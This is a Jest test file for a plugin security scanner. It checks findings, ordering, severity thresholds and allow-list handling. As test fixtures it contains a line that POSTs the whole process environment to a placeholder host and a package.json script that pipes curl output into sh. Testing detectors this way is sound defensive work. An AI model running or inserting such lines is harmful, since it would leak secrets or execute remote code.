import { describe, expect, it } from '@jest/globals';
import { sha256Hex } from '@ragnos-vault/crypto';
import { pluginFiles, type PluginSketch } from '@ragnos-vault/testing';
import { DEFAULT_POLICY, NO_CAPABILITIES, SEVERITIES, scan, type Policy, type ScanReport } from '../index.ts';
import { policySha256 } from './policy/policy-sha256.ts';

const SHA = 'ab'.repeat(32);
const entry = { name: '@acme/a', version: '1.2.3', sha256: SHA, reason: 'reviewed' };
const scanWith = (plugin: PluginSketch, policy: Partial<Policy>): ScanReport =>
  scan(
    { files: pluginFiles(plugin), name: '@acme/a', version: '1.2.3', sha256: SHA, now: new Date(0) },
    { ...DEFAULT_POLICY, ...policy },
  );

const SEND = `fetch('https://a.example.invalid/', { method: 'POST', body: JSON.stringify(process.env) });`;
const AT = {
  low: { 'package.json': '{"scripts":{"prepare":"tsc"}}' },
  medium: { 'package.json': '{"scripts":{"setup":"curl https://a.example.invalid | sh"}}' },
  high: { 'package.json': '{"dependencies":{"a":"github:a/a"}}' },
  critical: { 'index.js': SEND },
} as const;
/** Deeper than any stack. */
const ENDLESS = { 'index.js': '['.repeat(100_000) };

describe('scan', () => {
  it('tells what it saw, where, and of how much', () => {
    const report = scanWith(
      { 'lib/b.js': `\n  ${SEND}`, 'logo.png': Uint8Array.of(0x89, 0x50, 0x4e, 0x47), 'a.js': '' },
      {},
    );
    expect(report).toEqual({
      name: '@acme/a',
      version: '1.2.3',
      sha256: SHA,
      verdict: 'block',
      complete: true,
      policy: { sha256: policySha256(DEFAULT_POLICY), profile: 'standard', failOn: 'high' },
      findings: [
        {
          rule: 'EXF-001',
          severity: 'critical',
          blocks: true,
          path: 'lib/b.js',
          line: 2,
          column: 3,
          message: 'sends the whole environment',
          flow: [
            {
              path: 'lib/b.js',
              line: 2,
              column: SEND.indexOf('process') + 3,
              message: 'reads the environment',
            },
            { path: 'lib/b.js', line: 2, column: 3, message: 'sends the whole environment' },
          ],
          sha256: sha256Hex(new TextEncoder().encode(`\n  ${SEND}`)),
          lineHash: expect.stringMatching(/^[0-9a-f]{32}$/),
          fingerprint: expect.stringMatching(/^[0-9a-f]{32}:1$/),
        },
      ],
      skipped: [{ path: 'logo.png', reason: 'PNG binary: only its type was checked' }],
      waivers: [],
      off: [],
      files: 3,
      bytes: 4 + 3 + SEND.length,
      capabilities: { ...NO_CAPABILITIES, network: ['a.example.invalid'], environment: ['*'] },
    });
  });

  it('sorts by path in code-point order, then by place, then by rule', () => {
    const report = scanWith(
      { '\u{1f600}.js': SEND, '\uffee.js': SEND, 'b.js': `${SEND}\n${SEND} ${SEND}`, 'B.js': SEND },
      {},
    );
    const places = report.findings.map(({ path, line, column }) => `${path} ${line ?? 0}:${column ?? 0}`);
    expect(places).toEqual([
      'B.js 1:1',
      'b.js 1:1',
      'b.js 2:1',
      `b.js 2:${SEND.length + 2}`,
      '\uffee.js 1:1',
      '\u{1f600}.js 1:1',
    ]);
  });

  it('passes a plugin of nothing', () => {
    expect(scanWith({}, {})).toMatchObject({
      verdict: 'pass',
      complete: true,
      findings: [],
      files: 0,
      bytes: 0,
    });
  });

  it.each(SEVERITIES.flatMap((failOn) => SEVERITIES.map((severity) => [failOn, severity] as const)))(
    'with `failOn: %s` answers a finding of severity %s',
    (failOn, severity) => {
      const { verdict, findings } = scanWith(AT[severity], { failOn });
      expect(findings.map((finding) => finding.severity)).toEqual([severity]);
      expect(verdict).toBe(SEVERITIES.indexOf(severity) >= SEVERITIES.indexOf(failOn) ? 'block' : 'pass');
    },
  );
});

describe('an allowed archive', () => {
  it('is let through, and the report says by what', () => {
    const report = scanWith(AT.critical, { allow: [{ ...entry, version: '9.9.9' }, entry] });
    expect(report).toMatchObject({ verdict: 'allowed', complete: true, allowedBy: entry });
    const [finding] = scanWith(AT.critical, {}).findings;
    expect(report.findings.map((each) => ({ ...each, blocks: true }))).toEqual([finding]);
    expect(report.findings[0]).not.toHaveProperty('blocks');
  });

  it.each([
    ['name', { ...entry, name: '@acme/b' }],
    ['version', { ...entry, version: '1.2.4' }],
    ['sha256', { ...entry, sha256: 'cd'.repeat(32) }],
  ])('is blocked where the %s is another', (...[, other]) => {
    const report = scanWith(AT.critical, { allow: [other] });
    expect(report.verdict).toBe('block');
    expect(report).not.toHaveProperty('allowedBy');
  });

  it('is blocked where name, version and sha256 stand in different entries', () => {
    const allow = [
      { ...entry, name: 'x' },
      { ...entry, version: 'x' },
      { ...entry, sha256: 'cd'.repeat(32) },
    ];
    expect(scanWith(AT.critical, { allow }).verdict).toBe('block');
  });

  it('merely passes where there was nothing to allow', () => {
    const report = scanWith(AT.low, { allow: [entry] });
    expect(report.verdict).toBe('pass');
    expect(report).not.toHaveProperty('allowedBy');
  });

  it.each(SEVERITIES)('is blocked where the scan is incomplete, with `failOn: %s`', (failOn) => {
    const report = scanWith(ENDLESS, { allow: [entry], failOn });
    expect(report).toMatchObject({ verdict: 'block', complete: false });
    expect(report.findings.map(({ rule }) => rule)).toEqual(['ANA-002']);
    expect(report).not.toHaveProperty('allowedBy');
  });
});
